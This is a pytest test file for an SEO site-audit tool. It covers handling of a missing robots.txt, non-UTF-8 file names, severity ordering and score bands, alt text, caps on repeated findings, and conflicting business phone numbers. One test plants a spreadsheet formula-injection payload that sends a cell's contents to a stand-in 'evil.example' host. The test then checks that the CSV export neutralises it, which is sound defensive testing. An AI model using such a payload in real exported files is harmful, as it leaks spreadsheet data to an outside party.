"""Audit defects found on real sites: no robots.txt, odd file names, spreadsheet formulas, report order and size."""

from __future__ import annotations

import csv
import datetime as dt
import functools
import http.server
import json
import os
import re
import subprocess
import sys
import threading
from pathlib import Path

from seo_sites import BASE, NOW, clean_site

from contract.spreadsheet import unsafe_cell
from seo.audit import run_audit
from seo.crawler import crawl_site
from seo.reader import read_site
from seo.settings import load_settings

ROOT = Path(__file__).parent.parent


def serve(directory):
    """A plain http.server on loopback (no robots.txt handling of its own)."""
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(directory))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd, f"http://127.0.0.1:{httpd.server_address[1]}/"


def rules_of(result) -> set[str]:
    return {f.rule for f in result.findings}


def test_crawl_of_a_site_without_robots_txt_allows_all_and_notes_it(tmp_path):
    output = clean_site().write(tmp_path)
    (output / "robots.txt").unlink()
    httpd, url = serve(output)
    try:
        settings = load_settings(None)
        site = crawl_site(url, settings, public_url=BASE)
    finally:
        httpd.shutdown()
        httpd.server_close()
    assert site.robots_txt is None
    assert "/blog/rye-bread/" in site.pages and site.pages["/blog/rye-bread/"].status == 200
    result = run_audit(site, settings, now=dt.datetime.fromisoformat(NOW))
    missing = [f for f in result.findings if f.rule == "robots.missing"]
    assert len(missing) == 1 and missing[0].severity == "notice"
    assert "robots.blocks-page" not in rules_of(result)


def test_offline_site_without_robots_txt_gets_one_notice(tmp_path):
    output = clean_site().write(tmp_path)
    (output / "robots.txt").unlink()
    settings = load_settings(None)
    result = run_audit(read_site(output, settings), settings, now=dt.datetime.fromisoformat(NOW))
    assert [f.severity for f in result.findings if f.rule == "robots.missing"] == ["notice"]


def run_cli(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "seo", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd or ROOT, timeout=300)


def test_a_file_name_that_is_not_utf8_is_a_finding_not_a_crash(tmp_path):
    output = clean_site().write(tmp_path)
    with open(os.path.join(os.fsencode(output), b"caf\xe9.html"), "wb") as fh:
        fh.write(b"<!doctype html><html lang='en'><head><title>Caf\xe9</title></head><body>x</body></html>")
    reports = tmp_path / "reports"
    done = run_cli("audit", output, "--reports", reports, "--now", NOW)
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode == 0, done.stdout + done.stderr
    data = json.loads((reports / "audit.json").read_text(encoding="utf-8"))
    found = [f for f in data["findings"] if f["rule"] == "url.filename-not-utf8"]
    assert len(found) == 1
    assert found[0]["severity"] == "warning" and found[0]["url"] == BASE + "/caf%E9.html"
    assert "Rename" in found[0]["hint"] and "caf\\xe9.html" in found[0]["message"]
    # the other pages were still audited
    assert len(data["pages"]) >= 4


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def test_audit_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    site = clean_site()
    for path in ("/blog/rye-bread/", "/blog/cinnamon-rolls/"):  # the same title twice: its text is a cell
        site.page(path).title = FORMULA
    output = site.write(tmp_path)
    reports = tmp_path / "reports"
    done = run_cli("audit", output, "--reports", reports, "--now", NOW)
    assert "Traceback" not in done.stderr, done.stderr
    with (reports / "audit.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert "'" + FORMULA in cells  # the duplicate title's value, neutralised
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    duplicate = [dict(zip(header, row, strict=True)) for row in body if row[1] == "onpage.title-duplicate"]
    assert duplicate and all(unsafe_cell(row["value"]) == FORMULA for row in duplicate)


def test_an_error_comes_first_and_turns_the_score_red(tmp_path):
    """One error among many notices: it heads "What to fix", and the score leaves the green band."""
    site = clean_site()
    site.page("/blog/rye-bread/").body += '<p><a href="/blog/no-such-post/">Gone</a></p>'  # the one error
    output = site.write(tmp_path)  # no manifest: every page gets a keywords.no-focus-keyword notice
    reports = tmp_path / "reports"
    done = run_cli("audit", output, "--reports", reports, "--now", NOW)
    assert done.returncode == 1, done.stdout + done.stderr
    data = json.loads((reports / "audit.json").read_text(encoding="utf-8"))
    assert data["summary"]["error"] == 1 and data["summary"]["notice"] >= 4
    assert data["score"] < 60 and data["score_band"] == "poor"
    page = (reports / "audit.html").read_text(encoding="utf-8")
    top = page[page.index('<ol class="top-issues">'):]
    top = top[:top.index("</ol>")]
    severities = re.findall(r'<span class="sev (\w+)">', top)
    assert severities[0] == "error" and severities == sorted(severities, key=["error", "warning", "notice"].index)
    assert "links.broken-internal" in top.split("</li>")[0]
    ring = re.search(r'<svg class="score-ring" data-band="(\w+)"', page)
    assert ring and ring[1] == "poor"
    assert 'stroke="#b42318"' in page and 'stroke="#067647"' not in page


def test_without_errors_the_score_keeps_its_green(tmp_path):
    output = clean_site().write(tmp_path)  # only notices (no manifest)
    reports = tmp_path / "reports"
    done = run_cli("audit", output, "--reports", reports, "--now", NOW)
    assert done.returncode == 0, done.stdout + done.stderr
    data = json.loads((reports / "audit.json").read_text(encoding="utf-8"))
    assert data["summary"]["error"] == 0 and data["score"] >= 90 and data["score_band"] == "good"
    assert 'data-band="good"' in (reports / "audit.html").read_text(encoding="utf-8")


def test_an_empty_alt_in_the_text_is_a_missing_alt_but_marked_decorations_pass(tmp_path):
    site = clean_site()
    site.page("/blog/rye-bread/").body += (
        '<p><img src="/images/rye.jpg" alt=""></p>'  # what ![](rye.jpg) becomes
        '<p><img src="/images/rolls.jpg" alt="" role="presentation">'
        '<img src="/images/home.jpg" alt="" aria-hidden="true"><img src="/images/logo.png" alt="" data-decorative></p>')
    output = site.write(tmp_path)
    reports = tmp_path / "reports"
    done = run_cli("audit", output, "--reports", reports, "--now", NOW)
    assert "Traceback" not in done.stderr, done.stderr
    data = json.loads((reports / "audit.json").read_text(encoding="utf-8"))
    found = [f for f in data["findings"] if f["rule"] == "onpage.img-alt-missing"]
    assert [(f["url"], f["target"]) for f in found] == [(BASE + "/blog/rye-bread/", "/images/rye.jpg")]
    assert 'alt=""' in found[0]["message"] and found[0]["severity"] == "warning"


def _capped_audit(tmp_path, cap):
    site = clean_site()
    site.sitemap_extra += [f"{BASE}/gone/{i}/" for i in range(40)]  # 40 sitemap.unknown-url (site-wide)
    site.page("/blog/rye-bread/").body += "".join(f'<p><a href="/missing/{i}/">Old {i}</a></p>' for i in range(30))
    output = site.write(tmp_path / f"cap{cap}")
    settings = tmp_path / f"cap{cap}" / "siteconf.py"
    settings.write_text(f"SEO_AUDIT = {{'max_instances_per_rule': {cap}}}\n", encoding="utf-8")
    reports = tmp_path / f"cap{cap}" / "reports"
    done = run_cli("audit", output, "--reports", reports, "--now", NOW, "--settings", settings)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stdout + done.stderr
    data = json.loads((reports / "audit.json").read_text(encoding="utf-8"))
    with (reports / "audit.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    sarif = json.loads((reports / "audit.sarif").read_text(encoding="utf-8"))["runs"][0]["results"]
    return data, rows, sarif


def test_reports_keep_the_first_n_findings_of_a_rule_and_count_the_rest(tmp_path):
    full, _, _ = _capped_audit(tmp_path, 0)  # 0: no limit
    data, rows, sarif = _capped_audit(tmp_path, 5)
    for rule, total in (("sitemap.unknown-url", 40), ("links.broken-internal", 30)):
        assert len([f for f in full["findings"] if f["rule"] == rule]) == total
        listed = [f for f in data["findings"] if f["rule"] == rule]
        assert len(listed) == 6, rule  # the first 5, then "… and N more"
        assert listed[-1]["more"] == total - 5 and f"{total - 5} more" in listed[-1]["message"]
        assert len([r for r in rows if r["rule"] == rule]) == 6
        assert [r for r in rows if r["rule"] == rule][-1]["value"] == str(total - 5)
        assert len([r for r in sarif if r["ruleId"] == rule]) == 6
    # the counts, the score and each page's counts are those of every finding
    assert data["summary"] == full["summary"] and data["score"] == full["score"]
    assert data["pages"] == full["pages"]
    assert data["summary"]["error"] >= 70


def test_a_bad_cap_is_refused_with_its_value(tmp_path):
    settings = tmp_path / "siteconf.py"
    settings.write_text("SEO_AUDIT = {'max_instances_per_rule': 'lots'}\n", encoding="utf-8")
    done = run_cli("audit", clean_site().write(tmp_path), "--settings", settings, "--reports", tmp_path / "r")
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "SEO_AUDIT['max_instances_per_rule'] = 'lots'" in done.stdout + done.stderr


def _business_page(kind, name, phone, street="12 Orchard Lane"):
    node = {"@context": "https://schema.org", "@type": kind, "name": name, "telephone": phone,
            "address": {"@type": "PostalAddress", "streetAddress": street, "addressLocality": "Alder Falls",
                        "postalCode": "05701"}}
    return (f'<!doctype html><html lang="en"><head><title>{name}</title>'
            f'<script type="application/ld+json">{json.dumps(node)}</script></head><body><main><h1>{name}</h1>'
            '<p><a href="/">Home</a> <a href="/shop/">Shop</a> <a href="/other/">Other</a></p></main></body></html>')


def test_two_businesses_at_one_address_with_different_phones_are_a_conflict(tmp_path):
    output = tmp_path / "output"
    pages = {"": _business_page("Bakery", "Orchard Bakery", "+1-802-555-0142"),
             "shop/": _business_page("Store", "Orchard Bakery Shop", "(802) 555-0199", street="12 orchard lane"),
             "other/": _business_page("Bakery", "Orchard Bakery", "802.555.0142")}  # same number, written otherwise
    for path, text in pages.items():
        (output / path).mkdir(parents=True, exist_ok=True)
        (output / path / "index.html").write_text(text, encoding="utf-8")
    reports = tmp_path / "reports"
    done = run_cli("audit", output, "--reports", reports, "--now", NOW, "--base-url", BASE)
    assert "Traceback" not in done.stderr, done.stderr
    data = json.loads((reports / "audit.json").read_text(encoding="utf-8"))
    conflicts = [f for f in data["findings"] if f["rule"] == "schema.nap-conflict"]
    assert len(conflicts) == 1, conflicts
    finding = conflicts[0]
    assert finding["severity"] == "warning" and finding["url"] == BASE + "/shop/" and finding["target"] == BASE + "/"
    assert "(802) 555-0199" in finding["message"] and "+1-802-555-0142" in finding["message"]
    assert "/shop/" in finding["message"] and " on / " in finding["message"]
